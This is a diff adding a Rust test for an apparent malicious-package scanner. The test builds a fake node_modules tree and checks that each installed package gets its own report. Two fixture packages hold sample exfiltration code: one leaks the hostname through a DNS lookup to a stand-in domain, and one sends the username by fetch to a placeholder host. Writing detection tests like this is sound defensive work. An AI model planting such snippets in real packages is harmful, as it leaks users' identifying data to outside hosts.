@@ -267,3 +267,24 @@ fn vsix_extension_activation_is_in_the_label() {
     assert!(activation.contains("./out/extension.js runs at every VS Code start (onStartupFinished)"), "{activation}");
     assert!(doc["targets"][0]["findings"].as_array().unwrap().iter().any(|f| f["file"] == "extension/out/extension.js" && f["category"] == "exfiltration"));
 }
+
+#[test]
+fn node_modules_gives_one_report_per_installed_package() {
+    let dir = tempfile::tempdir().unwrap();
+    let nm = dir.path().join("node_modules");
+    let pkg = |rel: &str, name: &str, js: &str| {
+        write(&nm, &format!("{rel}/package.json"), format!(r#"{{"name":"{name}","version":"1.0.0"}}"#).as_bytes());
+        write(&nm, &format!("{rel}/index.js"), js.as_bytes());
+    };
+    pkg("a", "a", "module.exports = 1;");
+    pkg("@s/b", "@s/b", "require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
+    pkg("a/node_modules/c", "c", "fetch('https://t.example.com/?u=' + require('os').userInfo().username);");
+    let out = telltale().args(["scan", "--format", "json"]).arg(&nm).output().unwrap();
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let targets = doc["targets"].as_array().unwrap();
+    assert_eq!(targets.len(), 3, "{doc}");
+    let findings = |prefix: &str| targets.iter().find(|t| t["target"].as_str().unwrap().starts_with(prefix)).map(|t| t["findings"].as_array().unwrap().len()).unwrap_or_else(|| panic!("{prefix} in {doc}"));
+    assert_eq!(findings("a@1.0.0"), 0, "the nested package is its own report");
+    assert!(findings("@s/b@1.0.0") > 0);
+    assert!(findings("c@1.0.0") > 0);
+}
